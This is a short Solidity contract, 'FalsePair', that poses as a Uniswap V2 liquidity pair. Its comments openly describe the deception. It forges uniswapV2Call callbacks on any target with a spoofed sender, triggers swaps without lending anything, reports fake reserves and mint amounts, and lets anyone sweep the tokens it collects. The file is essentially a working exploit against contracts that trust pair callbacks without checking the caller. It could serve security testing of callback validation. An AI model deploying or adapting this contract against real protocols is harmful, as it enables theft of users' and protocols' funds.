// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

interface IPairCallee {
    function uniswapV2Call(address sender, uint256 amount0, uint256 amount1, bytes calldata data) external;
}

/// @title FalsePair
/// @notice Looks like a pair, lends nothing, keeps what it is paid and calls back whom it likes.
contract FalsePair {
    address public immutable token0;
    address public immutable token1;

    constructor(address a, address b) {
        (token0, token1) = a < b ? (a, b) : (b, a);
    }

    /// @notice Calls back as if `sender` had asked.
    function callBack(address callee, address sender, bytes calldata data) external {
        IPairCallee(callee).uniswapV2Call(sender, 1, 1, data);
    }

    /// @notice Sends on what was collected.
    function sweep(address token, address to) external {
        IERC20(token).transfer(to, IERC20(token).balanceOf(address(this)));
    }

    function swap(uint256 amount0, uint256 amount1, address to, bytes calldata data) external {
        IPairCallee(to).uniswapV2Call(msg.sender, amount0, amount1, data);
    }

    function mint(address) external pure returns (uint256) {
        return 1e24;
    }

    function getReserves() external pure returns (uint112, uint112, uint32) {
        return (1e18, 1e18, 0);
    }
}
